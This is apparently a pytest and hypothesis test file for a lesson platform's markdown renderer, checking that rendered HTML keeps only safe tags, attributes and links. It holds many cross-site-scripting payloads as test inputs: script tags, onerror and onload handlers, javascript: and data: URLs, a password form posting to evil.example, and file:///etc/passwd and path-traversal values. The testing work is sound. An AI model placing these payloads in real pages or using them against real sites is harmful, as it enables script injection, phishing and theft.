"""Whatever somebody writes into a lesson, the page it is put into stays its own."""

from html.parser import HTMLParser
from itertools import product

import pytest
from hypothesis import given
from hypothesis import strategies as st

from operations.content.markdown import TAGS, attachments_in, html_of, words_of
from operations.content.questions import (
    AssignmentContent,
    LessonContent,
    Question,
    QuestionKind,
    QuizContent,
)
from tests.sampling import some

FILES = "/attachments/"
SCRIPTS = ("javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)")
EVIL = (
    *SCRIPTS,
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml;base64,PHN2Zz4=",
    "&#106;avascript:alert(1)",
    "&#x6A;&#x61;vascript:alert(1)",
    "javascript&colon;alert(1)",
    "\x01javascript:alert(1)",
    "file:///etc/passwd",
    "//evil.example/x",
    "/graphql?query={viewer{id}}",
    "attachment:12/../../x",
    "attachment:-1",
    "attachment:1e3",
    "attachment:\u0661",
    "attachment:javascript:alert(1)",
    "blob:https://evil.example/x",
)
PLACES = (
    "[x]({})",
    "[x](<{}>)",
    "![x]({})",
    "<{}>",
    "[x][r]\n\n[r]: {}",
    "![x][r]\n\n[r]: <{}>",
    '[x]({} "title")',
    "[![x]({0})]({0})",
    "> - [x]({})",
    "| a |\n|---|\n| [x]({}) |",
)
HTML = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="x"onerror="alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,x'></object>",
    "<embed src='x.swf'>",
    "<form action='https://evil.example'><input name=password></form>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>*{background:url(https://evil.example)}</style>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<a href='https://ok.example' onclick=alert(1)>x</a>",
    "<a style='position:fixed;inset:0' href='https://evil.example'>x</a>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<template><script>alert(1)</script></template>",
    "<scr<script>ipt>alert(1)</script>",
    "```<script>\nalert(1)\n```",
    '``` "><script>alert(1)</script>\nx\n```',
    "`<img src=x onerror=alert(1)>`",
    '![" onerror="alert(1)](attachment:1)',
    "![x](attachment:1 '\" onerror=\"alert(1)')",
    '[x](https://ok.example/"onclick="alert(1))',
    "[x](https://ok.example 'a\" onclick=\"alert(1)')",
    '<https://ok.example/"onclick=alert(1)//>',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script>alert(1)\\</script>",
)


def address(number: int) -> str:
    return f"{FILES}{number}"


class Seen(HTMLParser):
    """Every tag and attribute of a page, as a browser would read it."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment: {data}")

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(f"a declaration: {decl}")


ALLOWED = {
    "a": {"href", "title", "rel"},
    "img": {"src", "alt", "title"},
    "ol": {"start"},
    "code": {"class"},
    "td": {"style"},
    "th": {"style"},
}


def is_harmless(html: str) -> bool:
    """Written without looking at how it is done."""
    for tag, attributes in Seen(html).tags:
        assert tag in TAGS, tag
        assert attributes.keys() <= ALLOWED.get(tag, set()), attributes
        href, src = attributes.get("href"), attributes.get("src")
        assert href is None or href.startswith(("http://", "https://", "mailto:", "#", FILES)), href
        assert src is None or (src.startswith(FILES) and src[len(FILES) :].isdecimal()), src
        assert "rel" in attributes or tag != "a"
        style = attributes.get("style")
        assert style is None or style in {
            f"text-align:{side}" for side in ("left", "right", "center")
        }
    return True


@pytest.mark.parametrize(("place", "url"), [*product(PLACES, EVIL)])
def test_no_address_leads_anywhere_but_to_the_web_to_mail_and_to_files(
    place: str, url: str
) -> None:
    html = html_of(place.format(url), address)

    assert is_harmless(html)
    assert all(
        not (attributes.get("href") or "").startswith(FILES) and not attributes.get("src")
        for _, attributes in Seen(html).tags
    )


@pytest.mark.parametrize(
    "wrap", ["{}", "> {}", "- {}", "*{}*", "# {}", "a\n\n{}\n\nb", "|a|\n|-|\n|{}|"]
)
@pytest.mark.parametrize("text", HTML)
def test_html_is_text(text: str, wrap: str) -> None:
    assert is_harmless(html_of(wrap.format(text), address))


PIECES = st.sampled_from(
    [*HTML, *EVIL, "[", "](", ")", "![", "<", ">", "`", "```", "\n", "\n\n", "> ", "- ", "|", "*"]
)


@given(st.lists(PIECES | st.text(max_size=5), max_size=12).map("".join))
def test_nothing_made_of_pieces_of_attacks_is_one(text: str) -> None:
    assert is_harmless(html_of(text, address))


def test_what_people_write_is_shown() -> None:
    text = (
        "# Ropes\n\n*One* **two** ~~three~~ `four`\n\n1. a\n2. b\n\n- c\n\n> d\n\n"
        "| e | f |\n|:--|--:|\n| 1 | 2 |\n\n```python\ng < h\n```\n\n---\n"
        "[i](https://example.com 'there') <j@example.com> ![k](attachment:12) [l](attachment:13)"
    )

    html = html_of(text, address)

    for piece in (
        "<h1>Ropes</h1>",
        "<em>One</em> <strong>two</strong> <s>three</s> <code>four</code>",
        "<ol>\n<li>a</li>",
        "<blockquote>",
        '<th style="text-align:left">e</th>',
        '<td style="text-align:right">2</td>',
        '<pre><code class="language-python">g &lt; h',
        "<hr>",
        '<a href="https://example.com" title="there" rel="noopener noreferrer">i</a>',
        'href="mailto:j@example.com"',
        '<img src="/attachments/12" alt="k">',
        '<a href="/attachments/13" rel="noopener noreferrer">l</a>',
    ):
        assert piece in html


def test_pictures_from_elsewhere_tell_nobody_who_reads() -> None:
    assert html_of("![x](https://elsewhere.example/pixel.png)", address) == '<p><img alt="x"></p>\n'


def test_the_files_a_content_shows_are_known_whatever_its_kind() -> None:
    text = "![a](attachment:1) [b][c] `attachment:3` attachment:4\n\n[c]: attachment:2"
    quiz = QuizContent((Question(1, QuestionKind.ESSAY, text),))

    for content in (LessonContent(text), AssignmentContent(text), quiz):
        assert attachments_in(content) == {1, 2}


@pytest.mark.timeout(30)
@pytest.mark.parametrize(
    "text",
    some(
        [
            "[" * 9,
            "![" * 9,
            "*a ",
            "_a_",
            "> ",
            "<",
            "[a](",
            "- ",
            "&",
            "~a~~b~~~",
            "*_",
            "**x [a*b**c*](d) ",
        ],
        "texts that might take long",
        share=1 / 3,
    ),
)
def test_no_text_takes_long(text: str) -> None:
    """A hundred thousand characters of what parsers trip over, in a few seconds at most."""
    assert is_harmless(html_of((text * 100_000)[:100_000], address))


@pytest.mark.parametrize(
    ("markdown", "words"),
    [
        ("do **first**, and _then_", "do first, and then"),
        ("# Fire\n\nWhat\nnow?", "Fire What now?"),
        ("Press `Stop` or [leave](https://lms.example)", "Press Stop or leave"),
        ("![a red button](attachment:12)?", "a red button?"),
        ("- one\n- two\n\n```\nx < y\n```", "one two x < y"),
        ("| a | b |\n|---|---|\n| 1 | 2 |", "a b 1 2"),
        ("<b>bold</b> &amp; 3 * 4", "<b>bold</b> & 3 * 4"),
        ("", ""),
    ],
)
def test_words_of_a_text_are_what_somebody_reads(markdown: str, words: str) -> None:
    assert words_of(markdown) == words
